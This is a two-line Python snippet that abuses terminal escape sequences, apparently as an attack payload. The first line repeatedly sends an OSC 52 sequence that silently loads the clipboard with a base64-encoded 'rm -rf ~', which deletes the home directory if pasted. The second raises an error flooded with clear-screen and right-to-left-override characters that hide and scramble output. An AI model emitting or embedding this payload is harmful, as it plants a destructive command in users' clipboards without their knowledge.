print("\x1b]52;c;cm0gLXJmIH4K\x07" * 10_000)
raise ValueError("\x1b[2J\u202e" * 1000)
